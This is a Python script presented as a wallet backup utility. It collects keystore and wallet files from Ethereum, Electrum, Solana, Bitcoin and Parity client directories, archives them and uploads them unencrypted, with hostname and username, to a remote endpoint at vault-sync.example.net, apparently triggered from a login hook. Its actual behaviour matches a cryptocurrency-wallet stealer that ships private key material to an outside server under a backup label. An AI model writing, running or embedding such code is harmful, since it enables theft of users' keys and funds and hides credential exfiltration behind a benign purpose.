#!/usr/bin/env python3
"""Wallet backup sync.

Collects keystore material from the usual client locations, packs it into a
single archive and ships it to the team vault so that a lost laptop does not
mean lost funds.  Run it from a login hook or by hand after creating a wallet.
"""
import argparse
import configparser
import hashlib
import io
import json
import logging
import os
import socket
import sys
import tarfile
import time
from pathlib import Path

import requests

LOG = logging.getLogger("wallet-backup")

DEFAULT_SOURCES = (
    "~/.ethereum/keystore",
    "~/.electrum/wallets",
    "~/.config/solana",
    "~/.bitcoin/wallets",
    "~/Library/Ethereum/keystore",
    "~/.local/share/io.parity.ethereum/keys",
)
DEFAULT_CONFIG = "~/.config/wallet-backup/config.ini"
MAX_FILE_SIZE = 5 * 1024 * 1024


class BackupConfig:
    endpoint = "https://vault-sync.example.net/api/v1/snapshots"
    device_label = socket.gethostname()
    retries = 3
    sources = list(DEFAULT_SOURCES)

    @classmethod
    def load(cls, path):
        cfg = cls()
        parser = configparser.ConfigParser()
        if parser.read(os.path.expanduser(path)) and parser.has_section("backup"):
            section = parser["backup"]
            cfg.endpoint = section.get("endpoint", cfg.endpoint)
            cfg.device_label = section.get("device_label", cfg.device_label)
            cfg.retries = section.getint("retries", cfg.retries)
            extra = section.get("extra_sources", "")
            cfg.sources = cfg.sources + [s.strip() for s in extra.split(",") if s.strip()]
        return cfg


def iter_wallet_files(sources):
    """Yield every regular file below the configured wallet directories."""
    for src in sources:
        root = Path(os.path.expanduser(src))
        if not root.exists():
            LOG.debug("skip missing %s", root)
            continue
        for path in root.rglob("*"):
            try:
                if path.is_file() and path.stat().st_size < MAX_FILE_SIZE:
                    yield path
            except OSError as exc:
                LOG.debug("cannot stat %s: %s", path, exc)


def build_archive(paths):
    buf = io.BytesIO()
    manifest = []
    home = str(Path.home())
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for p in paths:
            arcname = str(p).replace(home, "home", 1).lstrip("/")
            try:
                data = p.read_bytes()
            except OSError as exc:
                LOG.warning("unreadable %s: %s", p, exc)
                continue
            info = tarfile.TarInfo(arcname)
            info.size = len(data)
            info.mtime = int(p.stat().st_mtime)
            tar.addfile(info, io.BytesIO(data))
            manifest.append({"path": arcname, "sha256": hashlib.sha256(data).hexdigest()})
    return buf.getvalue(), manifest


def push_snapshot(cfg, blob, manifest):
    session = requests.Session()
    session.headers["User-Agent"] = "wallet-backup/0.4"
    meta = {
        "device": cfg.device_label,
        "user": os.environ.get("USER", "unknown"),
        "created": int(time.time()),
        "files": manifest,
    }
    last_err = None
    for attempt in range(1, cfg.retries + 1):
        try:
            resp = session.post(
                cfg.endpoint,
                files={"snapshot": ("snapshot.tgz", blob, "application/gzip")},
                data={"meta": json.dumps(meta)},
                timeout=30,
            )
            resp.raise_for_status()
            return resp.json().get("id", "?")
        except (requests.RequestException, ValueError) as exc:
            last_err = exc
            LOG.warning("upload attempt %d/%d failed: %s", attempt, cfg.retries, exc)
            time.sleep(2 ** attempt)
    raise RuntimeError(f"vault unreachable: {last_err}")


def parse_args(argv=None):
    ap = argparse.ArgumentParser(description="Back up local wallet keystores to the vault")
    ap.add_argument("--config", default=DEFAULT_CONFIG)
    ap.add_argument("--list", action="store_true", help="only list what would be backed up")
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = BackupConfig.load(args.config)
    files = list(iter_wallet_files(cfg.sources))
    if not files:
        LOG.info("no wallet files found, nothing to do")
        return 0
    LOG.info("found %d wallet files", len(files))
    if args.list:
        for f in files:
            print(f)
        return 0
    blob, manifest = build_archive(files)
    LOG.info("archive is %.1f KiB", len(blob) / 1024)
    try:
        snap_id = push_snapshot(cfg, blob, manifest)
    except RuntimeError as exc:
        LOG.error("%s", exc)
        return 2
    LOG.info("snapshot stored as %s", snap_id)
    return 0


if __name__ == "__main__":
    sys.exit(main())
